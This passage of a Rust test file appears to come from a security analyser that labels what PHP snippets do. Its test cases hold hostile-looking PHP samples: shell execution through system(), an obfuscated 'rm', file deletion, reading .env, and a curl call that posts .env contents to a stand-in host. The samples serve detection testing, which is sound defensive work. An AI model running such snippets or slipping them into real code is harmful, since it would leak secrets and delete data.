                ("<?php system(sprintf('%s -%02d', 'x', 3));", "sh x -3"),
                ("<?php system(match ($y) { 1 => 'a', default => 'b' });", "sh a; sh b"),
                ("<?php system($y ?? 'b');", "sh …; sh b"),
                ("<?php ['k' => $c] = ['k' => 'x']; system($c);", "sh x"),
                ("<?php const A = 'x'; define('B', 'y'); system(A . B);", "sh xy"),
                ("<?php function f() { global $g; system($g); } $g = 'x'; f();", "sh x"),
                ("<?php system(implode(array_map('chr', [114, 109])));", "obfuscated; sh rm"),
            ],
        );
    }

    #[test]
    fn functions_and_classes() {
        check(
            "php",
            &[
                ("<?php $p = 'x'; $g = function () use ($p) { system($p); }; $g();", "sh x"),
                ("<?php (fn($c) => system($c))('x');", "sh x"),
                (
                    "<?php class A { function __construct(private string $d = 'x') {} \
                     function go() { system($this->d); } } (new A)->go();",
                    "sh x",
                ),
                (
                    "<?php class B { function go() { system($this->c()); } } \
                     class C extends B { function c() { return 'x'; } } (new C)->go();",
                    "sh x",
                ),
                (
                    "<?php class B { function __construct($c) { $this->c = $c; } } \
                     class C extends B { function __construct() { parent::__construct('x'); } \
                     function go() { system($this->c); } } (new C)->go();",
                    "sh x",
                ),
                (
                    "<?php class A { static $c = 'x'; static function go() { system(self::$c); } } A::go();",
                    "sh x",
                ),
                (
                    "<?php trait T { function go($c) { system($c); } } class U { use T; } (new U)->go('x');",
                    "sh x",
                ),
                (
                    "<?php class F { static function __callStatic($n, $a) { return $n(...$a); } } F::system('x');",
                    "obfuscated; sh x",
                ),
                (
                    "<?php class F { function __call($n, $a) { return $this; } } (new F)->system('x');",
                    "code.snippet",
                ),
                ("<?php enum C: string { case W = 'x'; } system(C::W->value);", "sh x"),
                (
                    "<?php class R { function unlink($x) { return $x; } } (new R)->unlink('/');",
                    "code.snippet",
                ),
                ("<?php [new class { function go($c) { system($c); } }, 'go']('x');", "sh x"),
            ],
        );
    }

    #[test]
    fn files_and_hosts() {
        check(
            "php",
            &[
                ("<?php unlink('a');", "delete-f a"),
                ("<?php file_put_contents('a', 'x', FILE_APPEND);", "append a"),
                ("<?php echo file_get_contents('.env');", "read .env"),
                ("<?php foreach (glob('a/*') as $f) unlink($f);", "delete-f a/*"),
                (
                    "<?php foreach (new DirectoryIterator('a') as $f) unlink($f->getPathname());",
                    "delete-f a/**",
                ),
                ("<?php include __DIR__ . '/x.php';", "read ./x.php; file ./x.php"),
                (
                    "<?php $c = curl_init('https://a.example'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true);",
                    "fetch a.example",
                ),
                (
                    "<?php $c = curl_init('https://a.example'); \
                     curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));",
                    "read .env; fetch a.example; send a.example <.env",
                ),
                (
                    "<?php $x = stream_context_create(['http' => ['method' => 'POST']]); \
                     file_get_contents('https://a.example', false, $x);",
                    "send a.example",
                ),
            ],
        );
    }

    #[test]
    fn hostile_texts_end() {
        let open = |text: &str| text.repeat(if text.len() < 3 { 100_000 } else { 10_000 });
        let texts = [
            open("["),
            open("("),
            format!("<?php {}", open("{")),
            format!("<?php {}1{};", open("("), open(")")),
            format!("<?php {}", open("if (a) ")),
            format!("<?php {}", open("function a() {")),
            format!("<?php $a = {}1;", open("1 . ")),
            format!("<?php $a = {}1;", open("1 + ")),
            format!("<?php $a{};", open("->b")),
            format!("<?php {}", open("\"{$a[")),
            "<?php <<<A\nunclosed {$a".to_owned(),
            "<?php 'unclosed".to_owned(),
            "<?php `unclosed".to_owned(),
            (0..60_000_u32).filter_map(|n| char::from_u32(n.wrapping_mul(2_654_435_761) % 0xd7ff)).collect(),
        ];
        for text in texts {
            let _ = super::super::describe(
                "php",
                &text,
                Default::default(),
                doorward_core::intent::Span::default(),
                &crate::programs::Context::default(),
            );
        }
    }
}
